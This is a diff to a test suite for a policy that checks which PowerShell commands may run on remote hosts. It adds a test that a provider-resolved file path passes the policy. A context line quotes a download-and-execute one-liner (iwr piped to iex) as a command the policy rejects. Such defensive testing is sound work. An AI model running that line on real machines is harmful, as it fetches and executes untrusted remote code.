@@ -215,6 +215,11 @@ describe("host-script-allow-list", () => {
             'a command line the policy cannot read (neither the bootstrap, an inline script nor the WinRM runner): powershell -Command "iwr https://example.net | iex"',
         ]);
     });
+    it("passes a provider-resolved path (the usual way to hand .NET a path)", async () => {
+        const health = step("health", prodConfig).create;
+        const line = "$p = $ExecutionContext.SessionState.Path.GetUnresolvedProviderPathFromPSPath('C:\\nova\\x.txt')\n[System.IO.File]::ReadAllText($p) | Out-Null\n";
+        expect(await resourceViolations(policy, REMOTE, command(`${health}${line}`))).toEqual([]);
+    });
     it("fails a parameter PowerShell 5.1 cannot bind", async () => {
         const health = step("health", prodConfig).create;
         expect(await resourceViolations(policy, REMOTE, command(`${health}Invoke-WebRequest -Uri 'http://127.0.0.1:8000/health' -SkipCertificateCheck\n`))).toEqual([
